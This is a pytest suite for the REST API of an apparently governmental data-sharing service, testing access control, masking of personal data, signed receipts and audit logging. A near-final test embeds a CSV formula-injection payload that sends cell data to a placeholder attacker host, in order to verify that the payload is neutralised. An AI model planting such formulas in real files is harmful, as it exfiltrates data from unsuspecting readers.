"""The REST API through Flask's test client, on a demo instance with real Casbin, Presidio,
SQLite, Ed25519 and the Merkle log."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import re

import pytest
from jwcrypto import jwk, jws

from audit import NoteVerifier, open_checkpoint
from audit.merkle import leaf_hash, verify_inclusion
from exchange.app import create_app

MOBILE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")
RESIDENT_ID = re.compile(r"(?<!\d)\d{17}[\dXx](?!\d)")


def ask(actor, dataset, columns, purpose="核查低保申请人的诉求记录"):
    return actor.post("/api/v1/requests", json={"dataset_id": dataset["id"],
                                                 "purpose": purpose, "columns": columns})


@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer gvx_not-a-token"},
                                     {"Authorization": "Basic abc"}])
def test_unauthenticated_calls_get_401(client, headers):
    r = client.get("/api/v1/datasets", headers=headers)
    assert r.status_code == 401
    assert r.get_json()["error"]["code"] == "unauthenticated"


def test_catalog_lists_every_dataset_with_metadata_only(as_role, datasets):
    found = as_role("jinjiang-requester").get("/api/v1/datasets").get_json()["datasets"]
    assert {d["sharing"] for d in found} == {"unconditional", "conditional", "none"}
    assert all("columns" not in d for d in found)
    hits = as_role("jinjiang-requester").get("/api/v1/datasets?q=热线").get_json()["datasets"]
    assert [d["department"] for d in hits] == ["hotline"]


def test_dataset_page_shows_profile_and_quality(as_role, datasets):
    d = as_role("civil-requester").get(f"/api/v1/datasets/{datasets['hotline_tickets']['id']}")
    body = d.get_json()
    kinds = {c["name"]: c["profile"]["kind"] for c in body["columns"]}
    assert kinds["联系电话"] == "identifier" and kinds["诉求内容"] == "free_text"
    assert kinds["处理部门"] == "none"
    assert "results" in body["quality"]


def test_missing_dataset_is_404(as_role):
    r = as_role("civil-requester").get("/api/v1/datasets/ds_000000000000")
    error = r.get_json()["error"]  # the problem's own code, worded for people
    assert r.status_code == 404 and error == {"code": "dataset_not_found",
                                              "message": "There is no such dataset."}


def _publish(actor, data: bytes, meta: dict, name: str = "x.csv"):
    return actor.post("/api/v1/datasets", data={"file": (io.BytesIO(data), name),
                                                "metadata": json.dumps(meta)},
                      content_type="multipart/form-data")


GOOD_META = {"title": "测试数据", "sharing": "conditional", "level": "L2",
             "confirm_personal_data": True}
GOOD_CSV = "姓名,手机号\n张伟,13812345678\n李娜,13987654321\n".encode()


@pytest.mark.parametrize(("user", "data", "meta", "status", "message"), [
    ("market-requester", GOOD_CSV, GOOD_META, 403, "You may not do this"),
    ("market-steward", b"", GOOD_META, 422, "empty"),
    ("market-steward", "姓名,手机号\n".encode(), GOOD_META, 422, "no data rows"),
    ("market-steward", b"\xff\xfe\x00\x01\x9c\x80\xff" * 20, GOOD_META, 422, "UTF-8 or GBK"),
    ("market-steward", GOOD_CSV, {**GOOD_META, "title": ""}, 400, "title"),
    ("market-steward", GOOD_CSV, {**GOOD_META, "sharing": "maybe"}, 400, "is shared"),
    ("market-steward", GOOD_CSV, {**GOOD_META, "level": "L9"}, 400, "level"),
    ("market-steward", GOOD_CSV, {**GOOD_META, "sharing": "none"}, 400, "legal basis"),
    ("market-steward", GOOD_CSV, {**GOOD_META, "colour": "red"}, 400, "Unknown metadata fields"),
])
def test_bad_uploads_are_refused_and_leave_nothing(as_role, user, data, meta, status,
                                                   message):
    before = len(as_role("market-steward").get("/api/v1/datasets").get_json()["datasets"])
    r = _publish(as_role(user), data, meta)
    assert r.status_code == status, r.get_json()
    assert message in r.get_json()["error"]["message"]
    after = len(as_role("market-steward").get("/api/v1/datasets").get_json()["datasets"])
    assert after == before


def test_oversized_upload_is_413(home, users, settings_for):
    small = create_app(settings_for(home, max_upload_bytes=200)).test_client()
    r = small.post("/api/v1/datasets", headers={
        "Authorization": f"Bearer {users['market-steward']['token']}"},
        data={"file": (io.BytesIO(GOOD_CSV * 20), "big.csv"),
              "metadata": json.dumps(GOOD_META)}, content_type="multipart/form-data")
    assert r.status_code == 413 and r.get_json()["error"]["code"] == "too_large"


def test_gbk_csv_is_published_and_profiled(as_role):
    data = "姓名,手机号,备注\n张伟,13812345678,无\n李娜,13987654321,无\n".encode("gbk")
    r = _publish(as_role("jinjiang-steward"), data, {**GOOD_META, "title": "锦江区走访名单"})
    assert r.status_code == 201, r.get_json()
    profile = {c["name"]: c["profile"] for c in r.get_json()["columns"]}
    assert profile["手机号"]["entity"] == "CN_MOBILE"


def test_request_refused_for_not_shareable_data(as_role, datasets):
    r = ask(as_role("civil-requester"), datasets["case_files"], ["案件编号"])
    assert r.status_code == 201
    body = r.get_json()
    assert body["status"] == "refused" and "刑事诉讼法" in body["reason"]


@pytest.mark.parametrize(("columns", "status", "message"), [
    (["不存在的列"], 422, "has no column named 不存在的列"),
    ([], 422, "at least one column"),
    ("联系电话", 400, "list of column names"),
])
def test_bad_requests(as_role, datasets, columns, status, message):
    r = ask(as_role("civil-requester"), datasets["hotline_tickets"], columns)
    assert r.status_code == status and message in r.get_json()["error"]["message"]


def test_unconditional_dataset_is_granted_at_once(as_role, datasets):
    r = ask(as_role("civil-requester"), datasets["market_entities"], ["企业名称", "法定代表人"])
    body = r.get_json()
    assert body["status"] == "granted" and body["grant_id"].startswith("gr_")


def _pending_hotline_request(as_role, datasets) -> str:
    r = ask(as_role("civil-requester"), datasets["hotline_tickets"],
            ["工单编号", "来电人", "联系电话", "诉求内容"])
    assert r.status_code == 201 and r.get_json()["status"] == "pending"
    return r.get_json()["id"]


@pytest.mark.parametrize("user", ["hotline-requester", "civil-steward", "audit-auditor"])
def test_only_the_owning_steward_decides(as_role, datasets, user):
    rid = _pending_hotline_request(as_role, datasets)
    r = as_role(user).post(f"/api/v1/requests/{rid}/approve", json={})
    assert r.status_code == 403


def test_full_flow_masks_signs_and_logs(as_role, datasets, app):
    rid = _pending_hotline_request(as_role, datasets)
    steward = as_role("hotline-steward")
    assert rid in [r["id"] for r in steward.get("/api/v1/requests?status=pending")
                   .get_json()["requests"]]
    for body, status, says in [
            ({"masking": {"联系电话": "rot13"}}, 400, "Unknown masking operator"),  # no such name
            ({"expires_in_days": 0}, 400, "from 1 to 365"),                  # out of its range
            ({"expires_in_days": "30"}, 400, "whole number"),                # not a number
            ({"masking": {"不存在": "hash"}}, 422, "不存在"),                 # no such column
            ({"masking": {c: "drop" for c in ("工单编号", "来电人", "联系电话", "诉求内容")}},
             422, "Every column is left out"),                            # nothing to deliver
    ]:
        bad = steward.post(f"/api/v1/requests/{rid}/approve", json=body)
        assert bad.status_code == status and says in bad.get_json()["error"]["message"], body
    ok = steward.post(f"/api/v1/requests/{rid}/approve",
                      json={"masking": {"联系电话": "hash"}, "expires_in_days": 30})
    assert ok.status_code == 200, ok.get_json()
    grant_id = ok.get_json()["grant_id"]
    again = steward.post(f"/api/v1/requests/{rid}/approve", json={})
    assert again.status_code == 409

    other = as_role("market-requester").post(f"/api/v1/grants/{grant_id}/exchanges", json={})
    assert other.status_code == 403

    requester = as_role("civil-requester")
    ex = requester.post(f"/api/v1/grants/{grant_id}/exchanges", json={"format": "csv"})
    assert ex.status_code == 201, ex.get_json()
    body = ex.get_json()
    data = requester.get(body["data_url"]).data
    text = data.decode("utf-8")
    assert not MOBILE.search(text) and not RESIDENT_ID.search(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == ["工单编号", "来电人", "联系电话", "诉求内容"]
    assert all(re.fullmatch(r"[a-z2-7]{16}", r["联系电话"]) for r in rows if r["联系电话"])

    keyset = jwk.JWKSet.from_json(json.dumps(app.test_client()
                                             .get("/.well-known/jwks.json").get_json()))
    token = jws.JWS()
    token.deserialize(body["receipt"])
    token.verify(keyset.get_key(token.jose_header["kid"]), alg="EdDSA")
    manifest = json.loads(token.payload)
    import hashlib
    assert manifest["sha256"] == hashlib.sha256(data).hexdigest()
    assert manifest["grant_id"] == grant_id and manifest["row_count"] == len(rows)
    assert {c["name"]: c["operator"] for c in manifest["columns"]}["联系电话"] == "hash"
    assert manifest["audit_index"] == body["audit_index"]

    _check_logged(as_role("audit-auditor"), body["audit_index"], grant_id)

    assert as_role("market-requester").get(body["data_url"]).status_code == 403
    revoked = steward.post(f"/api/v1/grants/{grant_id}/revoke", json={"reason": "用途结束"})
    assert revoked.status_code == 200 and revoked.get_json()["status"] == "revoked"
    assert requester.post(f"/api/v1/grants/{grant_id}/exchanges", json={}).status_code == 403
    assert requester.get(body["data_url"]).status_code == 403


def _check_logged(auditor, index: int, grant_id: str) -> None:
    note = auditor.get("/api/v1/audit/checkpoint").data.decode()
    vkey = auditor.get("/api/v1/audit/key").get_json()["vkey"]
    checkpoint = open_checkpoint(note, NoteVerifier.from_vkey(vkey))
    page = auditor.get(f"/api/v1/audit/entries?offset={index}&limit=1").get_json()
    entry = page["entries"][0]["entry"]
    assert entry["type"] == "exchange" and entry["grant_id"] == grant_id
    proof = auditor.get(f"/api/v1/audit/proofs/inclusion?index={index}"
                        f"&size={checkpoint.size}").get_json()
    import rfc8785
    verify_inclusion(index=index, size=checkpoint.size,
                     leaf_hash=leaf_hash(rfc8785.dumps(entry)),
                     proof=[base64.b64decode(h) for h in proof["hashes"]],
                     root=checkpoint.root_hash)


def test_deny_with_reason(as_role, datasets):
    rid = _pending_hotline_request(as_role, datasets)
    steward = as_role("hotline-steward")
    assert steward.post(f"/api/v1/requests/{rid}/deny", json={}).status_code == 400
    r = steward.post(f"/api/v1/requests/{rid}/deny", json={"reason": "目的与数据无关"})
    assert r.status_code == 200 and r.get_json()["status"] == "denied"
    mine = as_role("civil-requester").get("/api/v1/requests?status=denied").get_json()
    assert rid in [x["id"] for x in mine["requests"]]


@pytest.mark.parametrize("user", ["civil-requester", "hotline-steward"])
def test_audit_is_for_auditors_only(as_role, user):
    assert as_role(user).get("/api/v1/audit/entries").status_code == 403


def test_refusals_are_logged_and_no_personal_data_is(as_role, datasets, home, users):
    as_role("civil-requester").get("/api/v1/audit/entries")
    auditor, pages, offset = as_role("audit-auditor"), [], 0
    while True:  # every page: how many refusals earlier tests logged depends on their pace
        page = auditor.get(f"/api/v1/audit/entries?limit=1000&offset={offset}").get_json()
        pages += page["entries"]
        offset += len(page["entries"])
        if not page["entries"] or offset >= page["size"]:
            break
    entries = {"entries": pages}
    kinds = {e["entry"]["type"] for e in entries["entries"]}
    assert {"publish", "request", "authz_denied"} <= kinds
    dump = json.dumps(entries, ensure_ascii=False)
    assert not MOBILE.search(dump) and not RESIDENT_ID.search(dump)
    assert "gvx_" not in dump  # no API token
    assert not [u for u in users.values() if u["password"] in dump]  # no password


def _throttle_subject(app, monkeypatch, username: str, department: str) -> tuple[dict, list]:
    """A new requester's auth headers, and the ticks of the clock its throttle counts on
    (the shared app's clock, put back after the test)."""
    from exchange.usecases.admin import create_user
    svc = app.extensions["govex"]
    token = create_user(svc, username=username, password="a long password",
                        role="requester", department=department)
    ticks = [svc.clock()]
    monkeypatch.setattr(svc, "clock", lambda: ticks[0])
    return {"Authorization": f"Bearer {token}"}, ticks


def _logged_kinds(as_role, actor: str) -> list[str]:
    logged = as_role("audit-auditor").get(
        f"/api/v1/audit/entries?actor={actor}&limit=1000").get_json()["entries"]
    return [e["entry"]["type"] for e in logged]


def test_a_user_refused_too_often_is_throttled_and_the_log_stays_bounded(app, client,
                                                                        as_role, monkeypatch):
    from exchange.services import REFUSAL_WINDOW, REFUSALS_PER_WINDOW
    headers, ticks = _throttle_subject(app, monkeypatch, "flood-requester", "civil")
    statuses = [client.get("/api/v1/audit/entries", headers=headers).status_code
                for _ in range(REFUSALS_PER_WINDOW + 5)]
    assert statuses == [403] * REFUSALS_PER_WINDOW + [429] * 5
    throttled = client.get("/api/v1/datasets", headers=headers)  # allowed, yet not decided
    assert throttled.status_code == 429
    assert throttled.get_json()["error"]["code"] == "too_many_attempts"
    assert 1 <= int(throttled.headers["Retry-After"]) <= REFUSAL_WINDOW
    assert as_role("civil-requester").get("/api/v1/datasets").status_code == 200
    ticks[0] += dt.timedelta(seconds=REFUSAL_WINDOW)
    assert client.get("/api/v1/datasets", headers=headers).status_code == 200
    kinds = _logged_kinds(as_role, "flood-requester")
    assert kinds.count("authz_denied") == REFUSALS_PER_WINDOW  # every decision, no more
    assert kinds.count("authz_throttled") == 1


def test_refusals_of_another_departments_grant_count_towards_the_throttle(
        app, client, as_role, datasets, monkeypatch):
    from exchange.services import REFUSALS_PER_WINDOW
    granted = as_role("civil-requester").post("/api/v1/requests", json={
        "dataset_id": datasets["market_entities"]["id"], "purpose": "核验企业法人信息",
        "columns": ["企业名称"]}).get_json()
    headers, _ticks = _throttle_subject(app, monkeypatch, "grant-prober", "health")
    statuses = [client.post(f"/api/v1/grants/{granted['grant_id']}/exchanges", json={},
                            headers=headers).status_code
                for _ in range(REFUSALS_PER_WINDOW + 3)]
    assert statuses == [403] * REFUSALS_PER_WINDOW + [429] * 3
    kinds = _logged_kinds(as_role, "grant-prober")
    assert kinds.count("authz_denied") == REFUSALS_PER_WINDOW
    assert kinds.count("authz_throttled") == 1


@pytest.mark.parametrize(("purpose", "survives", "gone"), [
    ("核查 5101 0419 8501 0112 32 的记录", "核查", "0112"),       # an ID in groups of four
    ("核查 510104 1985 0101 123X", "核查", "510104"),              # 6-4-4-4 with its X
    ("卡号 6222 0212 3456 7891 核查", "卡号", "7891"),              # a card that fails Luhn
    ("证件 110101199003077578", "证件", "110101199003077578"),   # a wrong check digit
    ("电话 028-12345678", "电话", "12345678"),                   # a landline
    ("统计2026-01-01至2026-06-30共3000件", "2026-01-01至2026-06-30共3000件", None),  # kept
    ("核查张伟的记录", "核查张*的记录", "张伟"),                  # a bare name, no context word
    ("为办理李秀英的低保复核", "为办理李**的低保复核", "李秀英"),
    ("核实欧阳娜娜户籍", "核实欧阳**户籍", "娜娜"),               # a compound surname
    ("白云区低保核查，周末加班费统计", "白云区低保核查，周末加班费统计", None),  # kept
    # written with other separators, in full width, in Chinese numerals, in pinyin
    ("身份证510104.1985.0101.1232", "身份证", "1232"),
    ("证件510104/1985/0101/1232", "证件", "1985"),
    ("卡号6222.0212.3456.7890.123", "卡号", "7890"),
    ("电话138_1234_5678、(138)1234-5678", "电话", "5678"),
    ("电话一三八一二三四五六七八，共三件", "共三件", "一三八"),
    ("邮箱ｚｈａｎｇ＠ｑｑ．ｃｏｍ", "邮箱", "zhang"),
    ("Check the records of Zhang Wei", "Check the records of Z", "Zhang Wei"),
    ("金额3500.50元，Civil Affairs Bureau", "金额3500.50元，Civil Affairs Bureau", None),
])
def test_loggable_text_stars_long_numbers_however_they_are_written(app, purpose, survives,
                                                                  gone):
    from masking import loggable_text
    logged = loggable_text(purpose, analyzer=app.extensions["govex"].analyzer())
    assert survives in logged
    assert gone is None or gone not in logged


@pytest.mark.parametrize("planted", [
    "13812345678",            # a mobile number
    "110101199003077578",     # ID-shaped with a wrong check digit: still never logged
    "王芳",                    # a name after a context word
    "wang.fang@example.com",  # an e-mail address
])
def test_personal_data_in_a_purpose_never_reaches_the_audit_log(as_role, datasets, planted):
    purpose = ("核查市民王芳的诉求记录（电话13812345678，证件110101199003077578，"
               "wang.fang@example.com）")
    assert planted in purpose
    requester, steward = as_role("jinjiang-requester"), as_role("hotline-steward")
    made = requester.post("/api/v1/requests", json={
        "dataset_id": datasets["hotline_tickets"]["id"], "purpose": purpose,
        "columns": ["受理时间", "诉求内容"]}).get_json()
    approved = steward.post(f"/api/v1/requests/{made['id']}/approve", json={}).get_json()
    delivered = requester.post(f"/api/v1/grants/{approved['grant_id']}/exchanges",
                               json={"format": "csv"})
    assert delivered.status_code == 201
    # the steward still reads the purpose as written: the request record is not the log
    pending = steward.get("/api/v1/requests").get_json()["requests"]
    assert [r["purpose"] for r in pending if r["id"] == made["id"]] == [purpose]
    logged = as_role("audit-auditor").get(
        "/api/v1/audit/entries?actor=jinjiang-requester&limit=1000").get_json()["entries"]
    # this request's entries (the shared instance's other tests log other purposes)
    purposes = [e["entry"]["purpose"] for e in logged
                if e["entry"].get("request_id") == made["id"] and "purpose" in e["entry"]]
    assert len(purposes) == 2 and all(p.startswith("核查市民") for p in purposes)
    assert not [p for p in purposes if planted in p]


@pytest.mark.parametrize(("path", "status", "says"), [
    ("/api/v1/datasets?level=L9", 400, "level must be one of"),
    ("/api/v1/datasets?sharing=zzz", 400, "sharing must be one of"),
    ("/api/v1/requests?status=bogus", 400, "status must be one of"),
    ("/api/v1/datasets?level=L3&sharing=conditional", 200, None),
    ("/api/v1/requests?status=refused", 200, None),
])
def test_a_filter_value_that_cannot_exist_is_an_error_not_an_empty_list(as_role, path,
                                                                        status, says):
    r = as_role("civil-requester").get(path)
    assert r.status_code == status
    if says:
        assert r.get_json()["error"]["code"] == "invalid_input"
        assert says in r.get_json()["error"]["message"]


def test_audit_filters(as_role):
    auditor = as_role("audit-auditor")
    only = auditor.get("/api/v1/audit/entries?type=publish&department=hotline").get_json()
    assert only["entries"] and all(e["entry"]["type"] == "publish" and
                                   e["entry"]["provider"] == "hotline" for e in only["entries"])
    for query, says in (("limit=x", "whole number"), ("limit=5000", "between 1 and 1000"),
                        ("limit=0", "between 1 and 1000"), ("since=yesterday", "since must be"),
                        ("until=2026-13-01", "until must be")):
        bad = auditor.get(f"/api/v1/audit/entries?{query}")
        assert bad.status_code == 400 and says in bad.get_json()["error"]["message"], query
    assert auditor.get("/api/v1/audit/entries?limit=1000&since=2026-01-01T00:00:00Z"
                       ).status_code == 200


def test_audit_entries_as_logged_are_the_bytes_the_tree_hashes(as_role):
    import rfc8785
    auditor = as_role("audit-auditor")
    as_objects = auditor.get("/api/v1/audit/entries?type=publish").get_json()["entries"]
    as_logged = auditor.get("/api/v1/audit/entries?type=publish&form=logged").get_json()
    assert [e["index"] for e in as_logged["entries"]] == [e["index"] for e in as_objects]
    for obj, text in zip(as_objects, as_logged["entries"], strict=True):
        assert "entry" not in text and text["logged"].encode() == rfc8785.dumps(obj["entry"])
    bad = auditor.get("/api/v1/audit/entries?form=raw")
    assert bad.status_code == 400 and "form must be one of object, logged" in bad.get_data(
        as_text=True)


def test_openapi_and_jwks_are_public(client):
    spec = client.get("/api/v1/openapi.json").get_json()
    assert spec["openapi"].startswith("3.")
    assert "/grants/{grant_id}/exchanges" in spec["paths"]
    keys = client.get("/.well-known/jwks.json").get_json()["keys"]
    assert keys[0]["kty"] == "OKP" and keys[0]["crv"] == "Ed25519" and "d" not in keys[0]


def test_openapi_says_what_the_api_does(client, as_role, datasets):
    spec = client.get("/api/v1/openapi.json").get_json()
    paths = spec["paths"]
    assert set(paths["/requests"]["post"]["responses"]) >= {"201", "400", "401", "403", "422"}
    assert "200" not in paths["/requests"]["post"]["responses"]
    assert "201" in paths["/grants/{grant_id}/exchanges"]["post"]["responses"]
    assert "401" not in paths["/openapi.json"]["get"]["responses"]
    query = {p["name"]: p["schema"] for p in paths["/audit/entries"]["get"]["parameters"]}
    assert query["offset"]["type"] == "integer" and query["limit"]["maximum"] == 1000
    assert query["form"]["enum"] == ["object", "logged"]
    status = paths["/requests"]["get"]["parameters"][0]["schema"]
    assert status["enum"] == ["pending", "granted", "denied", "refused", "withdrawn", "appealed",
                              "open", "closed"]
    approve = paths["/requests/{request_id}/approve"]["post"]["requestBody"]["content"]
    operators = approve["application/json"]["schema"]["properties"]["masking"]
    assert operators["additionalProperties"]["enum"] == [
        "keep", "mask", "redact", "hash", "generalize", "drop", "scrub"]
    # an error the API really sends validates against the documented schema
    import jsonschema
    error = as_role("civil-requester").get("/api/v1/requests?status=bogus")
    documented = paths["/requests"]["get"]["responses"][str(error.status_code)]
    ref = documented["content"]["application/json"]["schema"]["$ref"].rsplit("/", 1)[-1]
    jsonschema.validate(error.get_json(), spec["components"]["schemas"][ref])
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"error": "text"}, spec["components"]["schemas"][ref])


def test_malformed_json_gets_a_clear_400(as_role):
    r = as_role("civil-requester").post("/api/v1/requests", data="{not json",
                                        content_type="application/json")
    assert r.status_code == 400 and "JSON object" in r.get_json()["error"]["message"]


def test_strict_mode_refuses_a_failing_file_and_flags_otherwise(as_role):
    data = "姓名,身份证号\n张伟,11010519491231002X\n李娜,12345\n".encode()
    meta = {**GOOD_META, "title": "严格模式测试", "not_null": ["姓名"]}
    strict = _publish(as_role("jinjiang-steward"), data, {**meta, "strict": True})
    assert strict.status_code == 422 and "strict" in strict.get_json()["error"]["message"]
    assert not as_role("jinjiang-steward").get("/api/v1/datasets?q=严格模式测试") \
        .get_json()["datasets"]
    flagged = _publish(as_role("jinjiang-steward"), data, meta)
    assert flagged.status_code == 201 and flagged.get_json()["quality_passed"] is False


@pytest.mark.parametrize("fmt", ["xlsx", "parquet", "jsonl"])
def test_other_formats_are_published(as_role, fmt):
    import pandas as pd

    from catalog import formats
    frame = pd.DataFrame({"姓名": ["张伟", "李娜"], "手机号": ["13812345678", "13987654321"]})
    r = _publish(as_role("health-steward"), formats.write_table(frame, fmt=fmt),
                 {**GOOD_META, "title": f"格式测试 {fmt}"}, name=f"t.{fmt}")
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["row_count"] == 2 and r.get_json()["format"] == fmt


def test_foreign_errors_are_a_generic_500_without_details(app, monkeypatch, as_role):
    from exchange.usecases import publishing

    def boom(*_a, **_k):  # a library's ValueError that quotes a cell
        raise ValueError("cell 110105194912310021 could not be parsed")
    monkeypatch.setattr(publishing, "search", boom)
    r = as_role("civil-requester").get("/api/v1/datasets")
    assert r.status_code == 500
    assert "110105" not in r.get_data(as_text=True)
    assert r.get_json()["error"]["code"] == "internal"


@pytest.mark.parametrize(("masking", "status", "message"), [
    ({"联系电话": "generalize"}, 422, "generalize"),
    ({"诉求内容": "hash", "联系电话": "teleport"}, 400, "Unknown masking operator: teleport"),
])
def test_an_operator_that_cannot_mask_its_column_issues_no_grant(as_role, datasets, masking,
                                                                 status, message):
    rid = _pending_hotline_request(as_role, datasets)
    r = as_role("hotline-steward").post(f"/api/v1/requests/{rid}/approve",
                                        json={"masking": masking})
    assert r.status_code == status and message in r.get_json()["error"]["message"]
    pending = as_role("hotline-steward").get("/api/v1/requests?status=pending").get_json()
    assert rid in [x["id"] for x in pending["requests"]]


@pytest.mark.parametrize(("path", "body", "message"), [
    ("/api/v1/requests", {"dataset_id": ["x"], "purpose": "p", "columns": ["a"]},
     "Name the dataset"),
    ("/api/v1/requests/rq_x/approve", [1, 2], "JSON object"),
    ("/api/v1/grants/gr_x/revoke", "x", "JSON object"),
    ("/api/v1/grants/gr_x/exchanges", [], "JSON object"),
])
def test_wrongly_typed_bodies_get_400(as_role, path, body, message):
    user = "civil-requester" if path.endswith("/requests") else "hotline-steward"
    r = as_role(user).post(path, json=body)
    assert r.status_code == 400 and message in r.get_json()["error"]["message"]


@pytest.mark.parametrize(("meta", "message"), [
    ({**GOOD_META, "sharing": ["conditional"]}, "sharing must be text"),
    ({**GOOD_META, "strict": "false"}, "Strict must be true or false"),
    ({**GOOD_META, "not_null": ["nope"]}, "does not have"),
])
def test_wrongly_typed_metadata_gets_400(as_role, meta, message):
    r = _publish(as_role("market-steward"), GOOD_CSV, meta)
    assert r.status_code == 400 and message in r.get_json()["error"]["message"]


def test_huge_offsets_are_a_clear_400(as_role):
    r = as_role("audit-auditor").get("/api/v1/audit/entries?offset=99999999999999999999999")
    assert r.status_code == 400


def test_default_masking_does_not_let_a_receiver_rebuild_resident_ids(as_role, datasets):
    """A masked ID keeps its first 6 and last 4 characters; the 8 hidden ones are the birth
    date, so the birth-date column must not travel in full beside it."""
    r = ask(as_role("hotline-requester"), datasets["residents"], ["身份证号", "出生日期"],
            purpose="核对来电人身份")
    grant = as_role("civil-steward").post(f"/api/v1/requests/{r.get_json()['id']}/approve",
                                          json={}).get_json()["grant"]
    assert grant["masking"] == {"身份证号": "mask", "出生日期": "generalize"}
    requester = as_role("hotline-requester")
    ex = requester.post(f"/api/v1/grants/{grant['id']}/exchanges", json={}).get_json()
    rows = list(csv.DictReader(io.StringIO(requester.get(ex["data_url"]).data.decode())))
    assert rows and all(re.fullmatch(r"(18|19|20)\d{2}", row["出生日期"]) for row in rows)
    assert all(re.fullmatch(r"\d{6}\*{8}\d{3}[\dX]", row["身份证号"]) for row in rows)


DEEP = "[" * 100_000 + "]" * 100_000  # deeper than Python's JSON parser goes


@pytest.mark.parametrize("body", [DEEP, '{"purpose": ' + DEEP + "}", "[1, 2]", "not json"])
def test_a_body_that_is_no_json_object_is_a_400(as_role, datasets, body):
    r = as_role("civil-requester").post("/api/v1/requests", data=body,
                                        content_type="application/json")
    assert r.status_code == 400 and r.get_json()["error"]["code"] == "invalid_input"


def test_metadata_nested_too_deeply_is_a_400(as_role):
    r = as_role("hotline-steward").post("/api/v1/datasets", data={
        "file": (io.BytesIO("a,b\n1,2\n".encode()), "x.csv"), "metadata": DEEP},
        content_type="multipart/form-data")
    assert r.status_code == 400 and "metadata" in r.get_json()["error"]["message"]


def test_a_refusal_names_what_was_tried_and_whose_it_is(as_role, datasets):
    """Deciding another department's request: the entry names the request and its owner.
    A page refused as such (an auditor at the stewards' inbox) names no provider."""
    made = as_role("civil-requester").post("/api/v1/requests", json={
        "dataset_id": datasets["hotline_tickets"]["id"], "purpose": "核查诉求办理情况",
        "columns": ["受理时间"]}).get_json()
    r = as_role("market-steward").post(f"/api/v1/requests/{made['id']}/approve", json={})
    assert r.status_code == 403
    r = as_role("market-steward").get("/api/v1/audit/entries")
    assert r.status_code == 403
    logged = as_role("audit-auditor").get(
        "/api/v1/audit/entries?actor=market-steward&type=authz_denied&limit=1000"
    ).get_json()["entries"]
    decide = [e["entry"] for e in logged if e["entry"]["action"] == "decide"][-1]
    assert (decide["target"], decide["provider"]) == (made["id"], "hotline")
    read = [e["entry"] for e in logged if e["entry"]["object"] == "audit"][-1]
    assert "provider" not in read and "target" not in read
    assert read["actor_department"] == "market"


def test_a_delivered_csv_runs_no_formula_a_citizen_wrote(as_role):
    """A complaint that starts with = reaches the receiving officer's spreadsheet as text."""
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
    data = ("编号,备注\nA1," + '"' + formula.replace('"', '""') + '"\nA2,+1+1\nA3,-12.5\n').encode()
    made = _publish(as_role("market-steward"), data, {
        "title": "公式测试", "sharing": "unconditional", "level": "L1"}).get_json()
    requester = as_role("civil-requester")
    asked = requester.post("/api/v1/requests", json={
        "dataset_id": made["id"], "purpose": "测试", "columns": ["编号", "备注"]}).get_json()
    done = requester.post(f"/api/v1/grants/{asked['grant_id']}/exchanges",
                          json={"format": "csv"}).get_json()
    rows = list(csv.DictReader(io.StringIO(
        requester.get(done["data_url"]).get_data(as_text=True))))
    assert [r["备注"] for r in rows] == ["'" + formula, "'+1+1", "-12.5"]


def test_the_log_pages_newest_first_with_the_total_the_filters_select(as_role):
    auditor = as_role("audit-auditor")
    oldest = auditor.get("/api/v1/audit/entries?type=publish&limit=2").get_json()
    newest = auditor.get("/api/v1/audit/entries?type=publish&limit=2&order=desc").get_json()
    every = auditor.get("/api/v1/audit/entries?type=publish&limit=1000").get_json()
    indexes = [e["index"] for e in every["entries"]]
    assert oldest["total"] == newest["total"] == len(indexes) < every["size"]
    assert [e["index"] for e in oldest["entries"]] == indexes[:2]
    assert [e["index"] for e in newest["entries"]] == indexes[::-1][:2]
    assert auditor.get("/api/v1/audit/entries?order=sideways").status_code == 400
